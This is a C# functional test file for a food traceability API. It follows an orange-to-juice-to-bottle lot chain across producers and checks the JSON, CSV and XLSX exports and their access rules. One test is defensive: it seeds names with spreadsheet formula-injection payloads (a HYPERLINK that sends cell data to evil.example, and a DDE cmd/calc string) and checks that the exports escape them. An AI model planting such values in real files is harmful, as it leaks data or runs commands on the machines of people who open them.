using MiniExcelLibs;

namespace Traceability.Authority.FunctionalTests;

/// <summary>
/// A farm (producer A) harvests and ships oranges; a processor (producer B) presses them into juice
/// and bottles the juice. The trace of the juice lot reaches back to the oranges and forward to the bottles.
/// </summary>
public sealed class TraceExportTests(AuthorityApp app) : IClassFixture<AuthorityApp>
{
    private sealed record Chain(string Oranges, string Juice, string Bottles, TestProducer Farm, TestProducer Processor);

    private const string OrangeLot = "CAM-2611", OtherOrangeLot = "CAM-2612", JuiceLot = "NEP-01", BottleLot = "CHAI-01";

    private async Task<Chain> SeedAsync()
    {
        var farm = await app.NewProducerAsync("HTX Cam sành Hàm Yên");
        var processor = await app.NewProducerAsync("Công ty Nước ép Tuyên Quang");
        var oranges = await farm.RegisterProductAsync("Cam sành Hàm Yên");
        var juice = await processor.RegisterProductAsync("Nước cam ép");
        var bottles = await processor.RegisterProductAsync("Nước cam đóng chai 330 ml");
        await farm.RegisterLotAsync(oranges, OrangeLot);
        await farm.RegisterLotAsync(oranges, OtherOrangeLot);
        await processor.RegisterLotAsync(juice, JuiceLot);
        await processor.RegisterLotAsync(bottles, BottleLot);
        await farm.RegisterLocationAsync("VUON-01", "Vườn cam Phù Lưu", "Tuyên Quang");
        await processor.RegisterLocationAsync("NM-01", "Nhà máy ép Yên Sơn", "Tuyên Quang");

        string Loc(TestProducer p, string code) => $"urn:x-traceability:loc:{p.Id}:{code}";
        await farm.CaptureAsync(
            Object(oranges, OrangeLot, "commissioning", "2026-11-01T08:00:00+07:00", 1000, "KGM", Loc(farm, "VUON-01"), "ADD"),
            Object(oranges, OtherOrangeLot, "commissioning", "2026-11-01T09:00:00+07:00", 300, "KGM", Loc(farm, "VUON-01"), "ADD"),
            Shipping(oranges, OrangeLot, "2026-11-01T15:00:00+07:00", 800, Loc(farm, "VUON-01"), Loc(processor, "NM-01")));
        await processor.CaptureAsync(
            Transformation((oranges, OrangeLot, 800, "KGM"), (juice, JuiceLot, 500, "LTR"), "2026-11-02T08:00:00+07:00", Loc(processor, "NM-01")),
            Object(juice, JuiceLot, "storing", "2026-11-02T12:00:00+07:00", 500, "LTR", Loc(processor, "NM-01"), "OBSERVE"),
            Transformation((juice, JuiceLot, 500, "LTR"), (bottles, BottleLot, 1500, "H87"), "2026-11-03T08:00:00+07:00", Loc(processor, "NM-01")),
            Shipping(bottles, BottleLot, "2026-11-04T07:00:00+07:00", 1500, Loc(processor, "NM-01"), "urn:epc:id:sgln:8936000.00001.0", uom: null));
        return new Chain(oranges, juice, bottles, farm, processor);
    }

    [Fact]
    public async Task The_trace_of_a_processed_lot_lists_its_upstream_and_downstream_lots_across_producers()
    {
        var chain = await SeedAsync();
        var report = (await app.Admin().GetFromJsonAsync<JsonObject>($"/api/v1/trace/{chain.Juice}/{JuiceLot}?format=json"))!;

        Assert.Equal(JuiceLot, (string)report["lot"]!["lot"]!);
        var upstream = report["upstream"]!.AsArray().Single()!;
        Assert.Equal((chain.Oranges, OrangeLot, "HTX Cam sành Hàm Yên"), ((string)upstream["gtin"]!, (string)upstream["lot"]!, (string)upstream["producer"]!));
        var downstream = report["downstream"]!.AsArray().Single()!;
        Assert.Equal((chain.Bottles, BottleLot), ((string)downstream["gtin"]!, (string)downstream["lot"]!));

        var rows = report["rows"]!.AsArray().Select(r => r!.AsObject()).ToList();
        // traced: 2 transformations + storing; upstream: harvesting + shipping; downstream: shipping. Not the other orange lot.
        Assert.Equal(6, rows.Count);
        Assert.DoesNotContain(rows, r => (string)r["traceabilityLotCode"]! == OtherOrangeLot);
        Assert.Equal(rows.Select(r => (DateTimeOffset)r["eventTime"]!).Order(), rows.Select(r => (DateTimeOffset)r["eventTime"]!));
        var harvest = rows.Single(r => (string)r["cte"]! == "creation");
        Assert.Equal(("upstream", "HTX Cam sành Hàm Yên", chain.Farm.TaxCode), ((string)harvest["relation"]!, (string)harvest["producer"]!, (string)harvest["producerTaxCode"]!));
        Assert.Equal((1000m, "KGM"), ((decimal)harvest["quantity"]!, (string)harvest["uom"]!));
        Assert.Equal(("Vườn cam Phù Lưu", "Tuyên Quang"), ((string)harvest["locationName"]!, (string)harvest["locationProvince"]!));
        var ship = rows.Single(r => (string?)r["bizStep"] == "shipping" && (string)r["traceabilityLotCode"]! == OrangeLot);
        Assert.Contains("Nhà máy ép Yên Sơn", (string)ship["destination"]!);
        var pressing = rows.First(r => (string)r["cte"]! == "transformation");
        Assert.Equal(("traced", JuiceLot, 500m, "Công ty Nước ép Tuyên Quang"),
            ((string)pressing["relation"]!, (string)pressing["traceabilityLotCode"]!, (decimal)pressing["quantity"]!, (string)pressing["producer"]!));
        Assert.Contains($"in:01/{chain.Oranges}/10/{OrangeLot}", (string)pressing["linkedLots"]!);
        var bottled = rows.Single(r => (string)r["traceabilityLotCode"]! == BottleLot);
        Assert.Equal(("downstream", 1500m, "EA"), ((string)bottled["relation"]!, (decimal)bottled["quantity"]!, (string)bottled["uom"]!));
    }

    [Fact]
    public async Task The_csv_has_a_bom_one_header_row_and_one_row_per_event()
    {
        var chain = await SeedAsync();
        var response = await app.Admin().GetAsync($"/api/v1/trace/{chain.Juice}/{JuiceLot}?format=csv");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        Assert.Equal("text/csv", response.Content.Headers.ContentType?.MediaType);
        var bytes = await response.Content.ReadAsByteArrayAsync();
        Assert.Equal(Encoding.UTF8.GetPreamble(), bytes[..3]);
        var lines = Encoding.UTF8.GetString(bytes[3..]).Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal(7, lines.Length);
        Assert.StartsWith("relation,traceability_lot_code,gtin,product_name,quantity,uom,cte,event_type", lines[0]);
        Assert.Equal(1, lines.Count(l => l.StartsWith("relation,", StringComparison.Ordinal)));
        Assert.Contains(lines, l => l.Contains("Cam sành Hàm Yên") && l.Contains(",creation,"));
    }

    [Fact]
    public async Task The_xlsx_opens_with_one_row_per_event_and_gtins_as_text()
    {
        var chain = await SeedAsync();
        var response = await app.Admin().GetAsync($"/api/v1/trace/{chain.Juice}/{JuiceLot}?format=xlsx");

        Assert.Equal(HttpStatusCode.OK, response.StatusCode);
        using var stream = new MemoryStream(await response.Content.ReadAsByteArrayAsync());
        var rows = stream.Query(useHeaderRow: true, excelType: ExcelType.XLSX).Cast<IDictionary<string, object?>>().ToList();
        Assert.Equal(6, rows.Count);
        Assert.Contains(rows, r => (string?)r["gtin"] == chain.Oranges && (string?)r["relation"] == "upstream");
    }

    [Fact]
    public async Task Formula_like_names_are_escaped_in_the_csv_and_in_the_xlsx()
    {
        // Producer and product names are the sender's text; a spreadsheet runs text starting with = + - @ (or tab, CR).
        const string link = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Bấm\")";
        var farm = await app.NewProducerAsync("@SUM(1+1)*cmd|' /C calc'!A0");
        var product = await farm.RegisterProductAsync(link);
        await farm.RegisterLotAsync(product, "F-01");
        await farm.RegisterLocationAsync("V-01", "-2+3 vườn", "Tuyên Quang");
        await farm.CaptureAsync(Object(product, "F-01", "commissioning", "2026-11-01T08:00:00+07:00", 10, "KGM",
            $"urn:x-traceability:loc:{farm.Id}:V-01", "ADD"));

        var csv = await app.Admin().GetByteArrayAsync($"/api/v1/trace/{product}/F-01?format=csv");
        var xlsx = await app.Admin().GetByteArrayAsync($"/api/v1/trace/{product}/F-01?format=xlsx");
        foreach (var (type, bytes) in new[] { (ExcelType.CSV, csv), (ExcelType.XLSX, xlsx) })
        {
            var rows = new MemoryStream(bytes).Query(useHeaderRow: true, excelType: type).Cast<IDictionary<string, object?>>().ToList();
            var row = Assert.Single(rows);
            Assert.Equal("'" + link, row["product_name"]);
            Assert.Equal("'@SUM(1+1)*cmd|' /C calc'!A0", row["producer"]);
            Assert.Equal("'-2+3 vườn", row["location_name"]);
            Assert.All(row.Values.OfType<string>(), v => Assert.False(v.Length > 0 && "=+-@\t\r".Contains(v[0]), $"{type}: '{v}' starts a formula"));
        }
    }

    [Fact]
    public async Task Only_admins_export_and_bad_or_unknown_lots_are_problems()
    {
        var (inspector, _) = await app.NewInspectorAsync();
        var chain = await SeedAsync();
        Assert.Equal(HttpStatusCode.Unauthorized, (await app.CreateClient().GetAsync($"/api/v1/trace/{chain.Juice}/{JuiceLot}")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await inspector.GetAsync($"/api/v1/trace/{chain.Juice}/{JuiceLot}")).StatusCode);
        Assert.Equal(HttpStatusCode.Forbidden, (await chain.Farm.Client.GetAsync($"/api/v1/trace/{chain.Juice}/{JuiceLot}")).StatusCode);
        Assert.Equal(HttpStatusCode.NotFound, (await app.Admin().GetAsync($"/api/v1/trace/{chain.Juice}/NOPE")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await app.Admin().GetAsync("/api/v1/trace/08936001000011/X")).StatusCode);
        Assert.Equal(HttpStatusCode.BadRequest, (await app.Admin().GetAsync($"/api/v1/trace/{chain.Juice}/{JuiceLot}?format=pdf")).StatusCode);
    }

    [Fact]
    public async Task The_vietnamese_export_labels_local_times_and_names_the_consignee_with_address_and_phone()
    {
        var farm = await app.NewProducerAsync("HTX Cam sành Phù Lưu");
        var prefix = "8938" + Random.Shared.Next(100, 999);
        var created = await app.Admin().PostAsJsonAsync("/api/v1/producers", new
        {
            name = "Công ty Phân phối Minh Xuân", taxCode = Random.Shared.NextInt64(1_000_000_000, 9_999_999_999).ToString(System.Globalization.CultureInfo.InvariantCulture),
            address = "Phường Minh Xuân", province = "Tuyên Quang", companyPrefixes = new[] { prefix }, phone = "0207 3822 123",
        });
        created.EnsureSuccessStatusCode();
        var body = (await created.Content.ReadFromJsonAsync<JsonObject>())!;
        var buyer = app.ClientWithKey((string)body["apiKey"]!);
        (await buyer.PostAsJsonAsync("/api/v1/locations", new
        {
            code = "KHO-01", name = "Kho Minh Xuân", kind = "warehouse", address = "Số 5 đường Lê Lợi, phường Minh Xuân", province = "Tuyên Quang",
        })).EnsureSuccessStatusCode();
        var oranges = await farm.RegisterProductAsync("Cam sành");
        await farm.RegisterLotAsync(oranges, "CS-VI");
        await farm.RegisterLocationAsync("VUON-VI", "Vườn cam Phù Lưu", "Tuyên Quang");
        await farm.CaptureAsync(Shipping(oranges, "CS-VI", "2026-11-01T15:00:00+07:00", 800,
            $"urn:x-traceability:loc:{farm.Id}:VUON-VI", $"urn:x-traceability:loc:{(string)body["id"]!}:KHO-01"));

        var csv = Encoding.UTF8.GetString(await app.Admin().GetByteArrayAsync($"/api/v1/trace/{oranges}/CS-VI?format=csv&lang=vi"));
        var lines = csv.TrimStart('\uFEFF').Split("\r\n", StringSplitOptions.RemoveEmptyEntries);
        Assert.StartsWith("Quan hệ với lô,Mã lô truy xuất,GTIN,Tên sản phẩm", lines[0]);
        Assert.Contains("\"Thời điểm (giờ Việt Nam, UTC+7)\"", lines[0]);
        var ship = Assert.Single(lines, l => l.Contains(",shipping,"));
        Assert.Contains("15:00 01/11/2026 (UTC+7)", ship);
        Assert.Contains("Công ty Phân phối Minh Xuân", ship);
        Assert.Contains("\"Số 5 đường Lê Lợi, phường Minh Xuân, Tuyên Quang\"", ship);
        Assert.Contains("0207 3822 123", ship);

        var json = (await app.Admin().GetFromJsonAsync<JsonObject>($"/api/v1/trace/{oranges}/CS-VI"))!;
        var row = json["rows"]!.AsArray().Single()!;
        Assert.Equal(("Công ty Phân phối Minh Xuân", "0207 3822 123", "15:00 01/11/2026 (UTC+7)"),
            ((string)row["consignee"]!, (string)row["consigneePhone"]!, (string)row["eventTimeLocal"]!));
        Assert.Equal(HttpStatusCode.BadRequest, (await app.Admin().GetAsync($"/api/v1/trace/{oranges}/CS-VI?format=csv&lang=fr")).StatusCode);
    }

    private static JsonObject Object(string gtin, string lot, string bizStep, string time, decimal quantity, string? uom, string location, string action) => new()
    {
        ["type"] = "ObjectEvent",
        ["eventTime"] = time,
        ["eventTimeZoneOffset"] = "+07:00",
        ["action"] = action,
        ["bizStep"] = bizStep,
        ["disposition"] = "active",
        ["bizLocation"] = new JsonObject { ["id"] = location },
        ["quantityList"] = new JsonArray(Quantity(gtin, lot, quantity, uom)),
    };

    private static JsonObject Shipping(string gtin, string lot, string time, decimal quantity, string from, string to, string? uom = "KGM")
    {
        var e = Object(gtin, lot, "shipping", time, quantity, uom, from, "OBSERVE");
        e["disposition"] = "in_transit";
        e["sourceList"] = new JsonArray(new JsonObject { ["type"] = "location", ["source"] = from });
        e["destinationList"] = new JsonArray(new JsonObject { ["type"] = "location", ["destination"] = to });
        return e;
    }

    private static JsonObject Transformation((string Gtin, string Lot, decimal Q, string Uom) input, (string Gtin, string Lot, decimal Q, string Uom) output,
        string time, string location) => new()
    {
        ["type"] = "TransformationEvent",
        ["eventTime"] = time,
        ["eventTimeZoneOffset"] = "+07:00",
        ["bizStep"] = "commissioning",
        ["bizLocation"] = new JsonObject { ["id"] = location },
        ["inputQuantityList"] = new JsonArray(Quantity(input.Gtin, input.Lot, input.Q, input.Uom)),
        ["outputQuantityList"] = new JsonArray(Quantity(output.Gtin, output.Lot, output.Q, output.Uom)),
    };

    private static JsonObject Quantity(string gtin, string lot, decimal quantity, string? uom)
    {
        var q = new JsonObject { ["epcClass"] = $"https://id.gs1.org/01/{gtin}/10/{lot}", ["quantity"] = quantity };
        if (uom is not null) q["uom"] = uom;
        return q;
    }
}
